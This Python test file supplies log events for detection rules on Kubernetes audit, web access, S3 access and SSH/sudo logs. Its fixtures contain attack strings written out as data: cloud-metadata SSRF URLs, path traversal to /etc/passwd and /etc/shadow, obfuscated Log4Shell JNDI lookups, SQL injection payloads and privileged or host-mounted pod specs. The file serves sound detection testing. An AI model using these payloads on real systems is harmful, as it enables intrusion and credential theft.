"""Test events for the Kubernetes, web, S3 server access and auth.log rules (see gen_rule_tests.py)."""
from ctlib import *  # noqa: F401,F403

ATT = "198.51.100.42"
B = "2026-11-20T10:00:00Z"


def add(T, hit, miss, seq):
    K = "k8s_audit"
    sa_web = "system:serviceaccount:shop:web"
    admin = "alice@example.com"
    # ------------------------------------------------------------ Kubernetes
    T["k8s_audit/pod_exec_attach"] = [
        hit(k8s("create", "pods", user=sa_web, ns="shop", name="web-6d9f7c-xk2lp", sub="exec"), "exec by the web service account", K),
        hit(k8s("create", "pods", user=admin, groups=["system:authenticated", "oidc:platform"], ns="payments", name="api-5c8d-2kq9", sub="attach"), "attach by a human", K),
        miss(k8s("get", "pods", user=admin, ns="shop", name="web-6d9f7c-xk2lp", sub="log"), "reading logs", K),
        miss(k8s("create", "pods", user=sa_web, ns="payments", name="api-5c8d-2kq9", sub="exec", decision="forbid", code=403, reason=""), "exec denied by RBAC", K),
    ]
    priv = pod_spec("debug-node", "shop", image="docker.io/library/alpine:3.20", privileged=True)
    T["k8s_audit/privileged_pod"] = [
        hit(k8s("create", "pods", user=sa_web, ns="shop", req_obj=priv, level="RequestResponse"), "privileged pod in an application namespace", K),
        hit(k8s("create", "daemonsets", user=admin, ns="default", api_group="apps", req_obj={"kind": "DaemonSet", "apiVersion": "apps/v1", "metadata": {"name": "miner", "namespace": "default"}, "spec": {"selector": {"matchLabels": {"app": "miner"}}, "template": {"metadata": {"labels": {"app": "miner"}}, "spec": {"containers": [{"name": "m", "image": "docker.io/example/xmr:latest", "securityContext": {"privileged": True}}]}}}}), "privileged DaemonSet template", K),
        miss(k8s("create", "pods", user="system:serviceaccount:kube-system:daemon-set-controller", ns="kube-system", req_obj=pod_spec("aws-node-7x2kq", "kube-system", image="602401143452.dkr.ecr.us-east-1.amazonaws.com/amazon-k8s-cni:v1.18.3", privileged=True)), "CNI agent in kube-system", K),
        miss(k8s("create", "pods", user=sa_web, ns="shop", req_obj=pod_spec("web-1", "shop", privileged=False)), "privileged: false", K),
    ]
    T["k8s_audit/hostpath_mount"] = [
        hit(k8s("create", "pods", user=sa_web, ns="shop", req_obj=pod_spec("node-shell", "shop", image="docker.io/library/busybox:1.36", host_path="/")), "host root mounted", K),
        miss(k8s("create", "pods", user="system:serviceaccount:kube-system:replicaset-controller", ns="shop", req_obj=pod_spec("web-6d9f7c-abcde", "shop")), "ordinary pod with a projected token volume", K),
        miss(k8s("create", "pods", user="system:serviceaccount:kube-system:daemon-set-controller", ns="amazon-cloudwatch", req_obj=pod_spec("fluent-bit-x9k2", "amazon-cloudwatch", image="public.ecr.aws/aws-observability/aws-for-fluent-bit:2.32.2", host_path="/var/log")), "log agent in an allowed namespace", K),
    ]
    T["k8s_audit/host_namespaces"] = [
        hit(k8s("create", "pods", user=sa_web, ns="shop", req_obj=pod_spec("sniff", "shop", host_network=True)), "hostNetwork pod", K),
        hit(k8s("create", "pods", user=admin, ns="default", req_obj=pod_spec("nsenter", "default", host_pid=True)), "hostPID pod", K),
        miss(k8s("create", "pods", user=sa_web, ns="shop", req_obj=pod_spec("web-2", "shop", host_network=False)), "hostNetwork false", K),
    ]
    crb = lambda name, role, subj: {"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": name}, "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role}, "subjects": [subj]}
    T["k8s_audit/cluster_admin_binding"] = [
        hit(k8s("create", "clusterrolebindings", user=sa_web, ns=None, api_group="rbac.authorization.k8s.io", req_obj=crb("web-admin", "cluster-admin", {"kind": "ServiceAccount", "name": "web", "namespace": "shop"})), "workload SA bound to cluster-admin", K),
        miss(k8s("create", "clusterrolebindings", user=admin, ns=None, api_group="rbac.authorization.k8s.io", req_obj=crb("viewers", "view", {"kind": "Group", "name": "oidc:auditors", "apiGroup": "rbac.authorization.k8s.io"})), "binding to the view role", K),
    ]
    T["k8s_audit/anonymous_request_allowed"] = [
        hit(k8s("list", "secrets", user="system:anonymous", ns="kube-system", ip=ATT, ua="curl/8.4.0", reason='RBAC: allowed by ClusterRoleBinding "anon-debug" of ClusterRole "cluster-admin" to User "system:anonymous"'), "anonymous user listing secrets", K),
        miss(k8s("get", "version", user="system:anonymous", ns=None, ip=ATT, ua="curl/8.4.0", uri="/version", reason='RBAC: allowed by ClusterRoleBinding "system:public-info-viewer" of ClusterRole "system:public-info-viewer" to Group "system:unauthenticated"'), "public /version endpoint", K),
        miss(k8s("list", "secrets", user="system:anonymous", ns="kube-system", ip=ATT, ua="curl/8.4.0", decision="forbid", code=403, reason=""), "anonymous request denied", K),
    ]
    T["k8s_audit/secrets_read_by_serviceaccount"] = [
        hit(k8s("list", "secrets", user=sa_web, ns="shop"), "web SA lists secrets", K),
        hit(k8s("get", "secrets", user=sa_web, ns="payments", name="stripe-api", decision="forbid", code=403, reason=""), "denied attempt is still a signal", K),
        miss(k8s("get", "secrets", user="system:serviceaccount:cert-manager:cert-manager", ns="shop", name="shop-tls"), "cert-manager reading a TLS secret", K),
        miss(k8s("get", "secrets", user=admin, ns="shop", name="shop-tls"), "human user: other rules cover cross-namespace sweeps", K),
    ]
    T["k8s_audit/secrets_across_namespaces"] = seq("sweep", [
        (k8s("list", "secrets", user=sa_web, ns=n, t=ts(B, 20 * i)), "match" if i == 2 else None, f"secrets listed in {n}")
        for i, n in enumerate(["shop", "payments", "monitoring"])], K) + seq("one_namespace", [
        (k8s("get", "secrets", user=admin, ns="shop", name=f"s{i}", t=ts(B, 20 * i)), "no_match" if i == 5 else None, "many secrets in one namespace")
        for i in range(6)], K) + seq("controller", [
        (k8s("list", "secrets", user="system:serviceaccount:external-secrets:external-secrets", ns=n, t=ts(B, 20 * i)), "no_match" if i == 3 else None, "allowlisted controller")
        for i, n in enumerate(["shop", "payments", "monitoring", "default"])], K)
    T["k8s_audit/secrets_across_namespaces"] += [
        hit(k8s("get", "secrets", user=admin, ns="payments", name="stripe-api"), "one secret read feeds the correlation", K, rule="k8s_secret_access"),
        miss(k8s("get", "secrets", user="system:kube-controller-manager", ns="payments", name="stripe-api"), "control plane", K, rule="k8s_secret_access"),
        miss(k8s("get", "configmaps", user=admin, ns="payments", name="app-config"), "a configmap is not a secret", K, rule="k8s_secret_access"),
    ]
    T["k8s_audit/secrets_listed_cluster_wide"] = [
        hit(k8s("list", "secrets", user=sa_web, ns=None), "cluster-wide list by a workload", K),
        miss(k8s("list", "secrets", user=sa_web, ns="shop"), "namespaced list", K),
        miss(k8s("watch", "secrets", user="system:serviceaccount:kube-system:generic-garbage-collector", ns=None), "control-plane controller", K),
    ]
    T["k8s_audit/kube_system_pod_by_user"] = [
        hit(k8s("create", "pods", user=admin, ns="kube-system", req_obj=pod_spec("kube-proxy-helper", "kube-system")), "human creates a pod in kube-system", K),
        hit(k8s("create", "daemonsets", user=sa_web, ns="kube-system", api_group="apps"), "workload SA creates a DaemonSet in kube-system", K),
        miss(k8s("create", "pods", user="system:serviceaccount:kube-system:replicaset-controller", ns="kube-system", req_obj=pod_spec("coredns-5d78c9869d-abcde", "kube-system")), "controller-created pod", K),
        miss(k8s("create", "pods", user=admin, ns="shop", req_obj=pod_spec("web-3", "shop")), "other namespace", K),
    ]
    # ------------------------------------------------------------ web
    I, W = "istio", "web_access"
    T["web/ssrf_cloud_metadata"] = [
        hit(istio_line("/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/shop-web-role", xff=ATT, ua="curl/8.4.0"), "IMDS credentials path in a query", I),
        hit(istio_line("/proxy/http%3A%2F%2F%5Bfd00%3Aec2%3A%3A254%5D%2Flatest%2Fmeta-data%2F", xff=ATT, ua="python-requests/2.31.0"), "IPv6 IMDS, URL-encoded in the path", I),
        hit(web_line("/preview?src=http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", ip=ATT), "GCP metadata in combined log", W),
        miss(istio_line("/products/42?ref=169-254"), "ordinary product page", I),
        hit(alb_line("/render?template=http://[fd00:ec2::254]/latest/api/token", client=ATT, ua="python-requests/2.31.0"), "IPv6 IMDS behind an ALB", "elb"),
        miss(web_line("/docs/networking/link-local-addresses.html", ip="203.0.113.9"), "documentation page about link-local addresses", W),
    ]
    T["web/path_traversal"] = [
        hit(web_line("/static/../../../../etc/passwd", ip=ATT, status=400, ua="curl/8.4.0"), "plain traversal", W),
        hit(istio_line("/download?file=..%2f..%2f..%2fetc%2fshadow", xff=ATT, status=404), "encoded traversal in the query", I),
        miss(web_line("/static/css/site.css", ip="203.0.113.9"), "static file", W),
        miss(istio_line("/api/v1/orders?page=2&sort=desc"), "API call", I),
        hit(alb_line("/assets/..%2f..%2f..%2fetc/passwd", client=ATT, status=400, ua="curl/8.4.0"), "encoded traversal seen at an ALB", "elb"),
        miss(alb_line("/assets/app.js"), "static asset behind an ALB", "elb"),
    ]
    T["web/log4shell_jndi"] = [
        hit(web_line("/", ip=ATT, ua="${jndi:ldap://198.51.100.42:1389/a}"), "JNDI in the User-Agent", W),
        hit(istio_line("/search?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.42%2Fx%7D", xff=ATT), "URL-encoded JNDI in the query", I),
        hit(web_line("/login", ip=ATT, ref="${${lower:j}ndi:${lower:l}dap://198.51.100.42/x}"), "obfuscated lookup in the Referer", W),
        miss(web_line("/search?q=java+naming+directory", ip="203.0.113.9"), "search for the words", W),
        hit(alb_line("/", client=ATT, ua="${jndi:dns://198.51.100.42/probe}"), "JNDI User-Agent at an ALB", "elb"),
    ]
    T["web/sql_injection"] = [
        hit(web_line("/products?id=1%20UNION%20SELECT%20username,password%20FROM%20users--", ip=ATT, status=500, ua="sqlmap/1.8.2#stable (https://sqlmap.org)"), "UNION SELECT", W),
        hit(istio_line("/api/items?id=1'+or+'1'='1", xff=ATT, status=200), "tautology", I),
        hit(web_line("/search?q=x%27%20AND%20SLEEP(5)--", ip=ATT), "time-based blind", W),
        miss(web_line("/search?q=union+station+select+tours", ip="203.0.113.9"), "words that only look alike", W),
        miss(istio_line("/api/items?id=42&sort=name"), "normal query", I),
    ]
    T["web/scanner_user_agent"] = [
        hit(web_line("/", ip=ATT, status=404, ua="Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"), "Nuclei", W),
        hit(istio_line("/wp-login.php", xff=ATT, status=404, ua="WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"), "WPScan", I),
        miss(web_line("/", ip="203.0.113.9", ua="Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1"), "browser", W),
        miss(istio_line("/healthz", xff="10.1.0.2", ua="kube-probe/1.29"), "kubelet probe", I),
        hit(alb_line("/", client=ATT, status=404, ua="sqlmap/1.8.2#stable (https://sqlmap.org)"), "sqlmap at an ALB", "elb"),
        miss(alb_line("/", client="203.0.113.40", ua="ELB-HealthChecker/2.0"), "load-balancer health check", "elb"),
    ]
    T["web/sensitive_file_probe"] = [
        hit(web_line("/.env", ip=ATT, status=404, ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64)"), ".env probe", W),
        hit(istio_line("/.git/config", xff=ATT, status=404), ".git probe", I),
        miss(web_line("/environment/settings", ip="203.0.113.9"), "similar but harmless path", W),
    ]
    def t_web(sec):
        return (dt_base + __import__("datetime").timedelta(seconds=sec)).strftime("%d/%b/%Y:%H:%M:%S +0000")
    dt_base = __import__("datetime").datetime(2026, 11, 20, 10, 0, 0)
    T["web/auth_failure_burst"] = seq("stuffing", [
        (web_line("/api/login", ip=ATT, method="POST", status=401, t=t_web(2 * i), ua="python-requests/2.31.0", size=27), "match" if i == 19 else None, f"401 number {i + 1}")
        for i in range(20)], W) + seq("slow_failures", [
        (web_line("/api/login", ip="203.0.113.77", method="POST", status=401, t=t_web(10 * i), size=27), "no_match" if i == 19 else None, "20 failures over 3 minutes")
        for i in range(20)], W) + seq("many_clients", [
        (web_line("/admin", ip=f"203.0.113.{100 + i}", status=403, t=t_web(i)), "no_match" if i == 24 else None, "25 different clients, one 403 each")
        for i in range(25)], W)
    T["web/auth_failure_burst"] += [
        hit(web_line("/api/login", ip=ATT, method="POST", status=403, size=27), "one 403 feeds the correlation", W, rule="web_auth_failure"),
        hit(istio_line("/admin", xff=ATT, status=401, sent=19), "one 401 in Istio", I, rule="web_auth_failure"),
        miss(web_line("/api/login", ip=ATT, method="POST", status=200, size=27), "a 200", W, rule="web_auth_failure"),
        miss(web_line("/nope", ip=ATT, status=404, size=0), "a 404 is not an authorization failure", W, rule="web_auth_failure"),
    ]
    # ------------------------------------------------------------ S3 access
    S = "s3_access"
    def t_s3(sec):
        return (dt_base + __import__("datetime").timedelta(seconds=sec)).strftime("%d/%b/%Y:%H:%M:%S +0000")
    T["s3_access/anonymous_object_read"] = [
        hit(s3_line("shop-customer-exports", "REST.GET.OBJECT", "exports/2026-11/customers-0001.csv.gz", ip=ATT, requester="-", ua="curl/8.4.0", auth="-", sig="-", size=48213377), "anonymous download", S),
        miss(s3_line("shop-customer-exports", "REST.GET.OBJECT", "exports/2026-11/customers-0001.csv.gz", ip=ATT, requester="-", ua="curl/8.4.0", auth="-", sig="-", status=403, err="AccessDenied", size=48213377), "anonymous request denied", S),
        miss(s3_line("shop-assets", "REST.GET.OBJECT", "img/logo.png"), "authenticated read by the web role", S),
    ]
    T["s3_access/mass_download"] = seq("exfil", [
        (s3_line("shop-customer-exports", "REST.GET.OBJECT", f"exports/2026-11/customers-{i:04d}.csv.gz", ip=ATT, t=t_s3(4 * i), ua="aws-cli/2.15.0 Python/3.11.6 Linux/6.5.0", size=48213377 - i), "match" if i == 29 else None, f"object {i + 1}")
        for i in range(30)], S) + seq("hot_assets", [
        (s3_line("shop-assets", "REST.GET.OBJECT", f"img/p{i % 10}.jpg", t=t_s3(i)), "no_match" if i == 99 else None, "100 reads of 10 hot objects")
        for i in range(100)], S)
    T["s3_access/mass_download"] += [
        hit(s3_line("shop-assets", "REST.GET.OBJECT", "img/logo.png"), "one download feeds the correlation", S, rule="s3_access_object_download"),
        miss(s3_line("shop-assets", "REST.HEAD.OBJECT", "img/logo.png", method="HEAD"), "HEAD is not a download", S, rule="s3_access_object_download"),
        miss(s3_line("shop-assets", "REST.GET.OBJECT", "img/none.png", status=404, err="NoSuchKey", size=0), "missing object", S, rule="s3_access_object_download"),
    ]
    T["s3_access/access_denied_burst"] = seq("probe", [
        (s3_line(f"acme-{w}", "REST.GET.BUCKET", "-", ip=ATT, requester="-", t=t_s3(3 * i), status=403, err="AccessDenied", ua="Go-http-client/1.1", auth="-", sig="-", size="-"), "match" if i == 19 else None, f"denied probe {i + 1}")
        for i, w in enumerate(["backup", "logs", "data", "prod", "dev", "staging", "assets", "www", "files", "db", "archive", "exports", "private", "internal", "secrets", "config", "media", "uploads", "reports", "tmp"])], S) + seq("few", [
        (s3_line("shop-private", "REST.GET.OBJECT", f"k{i}", ip="10.1.4.50", t=t_s3(30 * i), status=403, err="AccessDenied"), "no_match" if i == 4 else None, "five denials")
        for i in range(5)], S)
    # ------------------------------------------------------------ auth.log
    A = "auth_log"
    def t_a(sec):
        return (dt_base + __import__("datetime").timedelta(seconds=sec)).strftime("%b %d %H:%M:%S")
    T["auth_log/ssh_brute_force_success"] = seq("guessed", [
        (auth_line(f"Failed password for deploy from {ATT} port {41000 + i} ssh2", t=t_a(3 * i), pid=3100 + i), None, f"failure {i + 1}")
        for i in range(5)] + [
        (auth_line(f"Accepted password for deploy from {ATT} port 41022 ssh2", t=t_a(40), pid=3120), "match", "success after five failures")], A) + seq("typo", [
        (auth_line("Failed password for deploy from 203.0.113.9 port 52000 ssh2", t=t_a(0), pid=4100), None, "one typo"),
        (auth_line("Accepted password for deploy from 203.0.113.9 port 52001 ssh2", t=t_a(9), pid=4101), "no_match", "then success")], A) + seq("failures_only", [
        (auth_line(f"Failed password for invalid user admin from {ATT} port {42000 + i} ssh2", t=t_a(2 * i), pid=5100 + i), "no_match" if i == 7 else None, "failures without success")
        for i in range(8)], A)
    T["auth_log/ssh_brute_force_success"] += [
        hit(auth_line(f"Failed password for invalid user oracle from {ATT} port 40111 ssh2", t=t_a(0), pid=7001), "failure for an invalid user", A, rule="ssh_auth_failure"),
        miss(auth_line(f"Invalid user oracle from {ATT} port 40111", t=t_a(0), pid=7001), "the 'Invalid user' notice is not counted (its failure line is)", A, rule="ssh_auth_failure"),
        miss(auth_line("Failed password for deploy from 192.0.2.10 port 40112 ssh2", t=t_a(0), prog="sshd-session", pid=7002) .replace("sshd-session", "sudo"), "same text from another program", A, rule="ssh_auth_failure"),
        hit(auth_line("Accepted publickey for deploy from 192.0.2.10 port 50522 ssh2: ED25519 SHA256:q3VbqGx0dT8mZk1y2uYf9w1pE0a7XcVnR5sLhJkQwTo", t=t_a(0), prog="sshd-session", pid=7003), "OpenSSH 9.8+ logs as sshd-session", A, rule="ssh_login_accepted"),
        miss(auth_line("Connection closed by 192.0.2.10 port 50522 [preauth]", t=t_a(0), pid=7004), "closed before authentication", A, rule="ssh_login_accepted"),
    ]
    T["auth_log/sudo_user_not_in_sudoers"] = [
        hit(auth_line("   deploy : user NOT in sudoers ; TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/cat /etc/shadow", prog="sudo", pid=None), "deploy is not in sudoers", A),
        miss(auth_line("    alice : TTY=pts/1 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx", prog="sudo", pid=None), "allowed sudo", A),
        miss(auth_line("pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1001)", prog="sudo", pid=None), "session line", A),
    ]
    T["auth_log/ssh_root_login"] = [
        hit(auth_line(f"Accepted password for root from {ATT} port 50122 ssh2", pid=6100), "root password login", A),
        miss(auth_line("Accepted publickey for deploy from 192.0.2.10 port 50522 ssh2: ED25519 SHA256:q3VbqGx0dT8mZk1y2uYf9w1pE0a7XcVnR5sLhJkQwTo", pid=6101), "ordinary user", A),
        miss(auth_line(f"Failed password for root from {ATT} port 50123 ssh2", pid=6102), "failed root attempt", A),
    ]
